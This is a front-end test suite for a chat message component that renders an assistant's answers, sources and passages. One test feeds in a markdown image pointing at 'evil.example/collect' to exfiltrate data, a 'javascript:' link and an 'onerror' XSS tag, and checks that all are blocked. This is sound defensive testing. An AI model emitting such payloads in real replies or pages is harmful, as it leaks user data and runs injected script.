import type { ChatMessage, MessageMetadata } from '@contract/chat';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import { renderWithProviders } from '@/test/render';
import { MessageBubble } from './message-bubble';

function answer(content: string, metadata: MessageMetadata | null = null): ChatMessage {
  return { id: 'a1', role: 'assistant', content, createdAt: '2025-03-04T10:00:00.000Z', metadata };
}

const guideSource = { type: 'structure' as const, title: 'AP Guide: Vendors', page: 4, snippet: 'Open Vendors, then New.' };

describe('MessageBubble', () => {
  it("labels a user message 'You' and links its URLs in a new tab", () => {
    renderWithProviders(
      <MessageBubble
        message={{
          id: 'u1',
          role: 'user',
          content: 'See [docs](https://erp.example.com/a) and https://b.example.com',
          createdAt: '',
          metadata: null,
        }}
      />,
    );
    expect(screen.getByText('You')).toBeTruthy();
    const links = screen.getAllByRole('link');
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://erp.example.com/a', 'https://b.example.com']);
    expect(links[0].textContent).toBe('docs');
    expect(links[0].getAttribute('target')).toBe('_blank');
  });

  it("labels an answer with its first source's title, else 'KAI'", async () => {
    const { unmount } = renderWithProviders(<MessageBubble message={answer('Hello', { sources: [guideSource] })} />);
    expect(screen.getAllByText('AP Guide: Vendors').length).toBeGreaterThan(0);
    unmount();
    renderWithProviders(<MessageBubble message={answer('Hello')} />);
    expect(screen.getByText('KAI')).toBeTruthy();
    expect(await screen.findByText('Hello')).toBeTruthy();
  });

  it('renders markdown with links that open in a new tab with a tooltip', async () => {
    renderWithProviders(<MessageBubble message={answer('**Bold** and [the guide](https://example.com/guide)')} />);
    const link = await screen.findByRole('link', { name: 'the guide' });
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(screen.getByText('Bold').tagName).toBe('STRONG');

    await userEvent.hover(link);
    expect((await screen.findAllByText('Click to open in new tab')).length).toBeGreaterThan(0);
  });

  it('never loads a markdown image and never renders raw HTML or script links', async () => {
    const { container } = renderWithProviders(
      <MessageBubble
        message={answer(
          'Look ![secret](https://evil.example/collect?d=123)\n\n<img src="https://evil.example/x.png"><b>raw</b>\n\n[click](javascript:alert(1))',
        )}
      />,
    );
    await screen.findByText('[image: secret]');
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('b')).toBeNull();
    expect(container.innerHTML).not.toContain('javascript:');
    expect(screen.getByText('click').closest('a')).toBeNull();
  });

  it('lists the sources, marks retrieval answers and opens uploaded documents', async () => {
    const onOpenDocument = vi.fn();
    renderWithProviders(
      <MessageBubble
        onOpenDocument={onOpenDocument}
        message={answer('Answer [1][2][3]', {
          mode: 'retrieval',
          sources: [
            guideSource,
            { type: 'uploaded', title: 'invoice.pdf', documentId: 'doc-9', snippet: 'Total 100' },
            { type: 'web', title: 'IRS 1099', url: 'https://www.irs.gov/1099', snippet: '' },
          ],
        })}
      />,
    );
    const sources = within(screen.getByRole('region', { name: 'Sources' }));
    expect(sources.getByText('[1]')).toBeTruthy();
    expect(sources.getByText('— page 4')).toBeTruthy();
    expect(screen.getByText('Retrieved passages')).toBeTruthy();

    await userEvent.click(sources.getByRole('button', { name: 'invoice.pdf' }));
    expect(onOpenDocument).toHaveBeenCalledWith('doc-9');
    expect(sources.getByRole('link', { name: 'IRS 1099' }).getAttribute('target')).toBe('_blank');
  });

  it('shows an answer without a model as its cited sentences, with the quoted passages collapsed', async () => {
    const content = [
      'Choose Void on the debit note. [1]',
      '_Quoted from your uploaded files as written._',
      '### Passages',
      '#### [1] debit-notes.pdf (page 2)',
      'To cancel a debit note, open it and **choose Void**. <img src=x onerror=alert(1)>',
    ].join('\n\n');
    const { container } = renderWithProviders(<MessageBubble message={answer(content, { mode: 'retrieval', sources: [guideSource] })} />);
    expect(await screen.findByText('Choose Void on the debit note. [1]')).toBeTruthy();
    const passages = within(screen.getByRole('region', { name: 'Passages' }));
    const summary = passages.getByText('[1] debit-notes.pdf (page 2)');
    const details = summary.closest('details')!;
    expect(details.open).toBe(false);
    await userEvent.click(summary);
    expect(details.open).toBe(true);
    expect((await passages.findByText('choose Void')).tagName).toBe('STRONG');
    expect(container.querySelector('img')).toBeNull();
    expect(screen.queryByText('### Passages', { exact: false })).toBeNull();
  });

  it('shows a plain "not found" without the retrieved-passages badge', async () => {
    renderWithProviders(
      <MessageBubble message={answer('Your uploaded files do not seem to cover this question.', { mode: 'retrieval', sources: [] })} />,
    );
    expect(await screen.findByText('Your uploaded files do not seem to cover this question.')).toBeTruthy();
    expect(screen.queryByText('Retrieved passages')).toBeNull();
    expect(screen.queryByRole('region', { name: 'Passages' })).toBeNull();
  });

  it('copies the answer and says so', async () => {
    const user = userEvent.setup();
    renderWithProviders(<MessageBubble message={answer('Copy me')} />);
    await user.click(screen.getByRole('button', { name: 'Copy message' }));
    expect(await screen.findByText('Copied to clipboard')).toBeTruthy();
    expect(screen.getByText('Message content copied successfully.')).toBeTruthy();
    expect(await navigator.clipboard.readText()).toBe('Copy me');
  });

  it('says when copying fails', async () => {
    const user = userEvent.setup();
    vi.spyOn(console, 'error').mockImplementation(() => {});
    vi.spyOn(navigator.clipboard, 'writeText').mockRejectedValue(new Error('denied'));
    renderWithProviders(<MessageBubble message={answer('Copy me')} />);
    await user.click(screen.getByRole('button', { name: 'Copy message' }));
    expect(await screen.findByText('Copy failed')).toBeTruthy();
    expect(screen.getByText('Could not copy message content.')).toBeTruthy();
  });

  it('offers Play audio only in voice mode', async () => {
    const { unmount } = renderWithProviders(<MessageBubble message={answer('Hi')} />);
    expect(screen.queryByRole('button', { name: 'Play audio' })).toBeNull();
    unmount();

    window.localStorage.setItem('voiceMode', 'true');
    const onPlayAudio = vi.fn();
    renderWithProviders(<MessageBubble message={answer('Hi')} onPlayAudio={onPlayAudio} />);
    await userEvent.click(screen.getByRole('button', { name: 'Play audio' }));
    expect(onPlayAudio).toHaveBeenCalledWith(expect.objectContaining({ id: 'a1' }));
  });

  it('shows a failed answer in the error style', async () => {
    renderWithProviders(<MessageBubble message={answer('The model is unavailable.', { error: 'MODEL_DOWN' })} />);
    const text = await screen.findByText('The model is unavailable.');
    await waitFor(() => expect(text.closest('.bg-red-50')).not.toBeNull());
  });
});
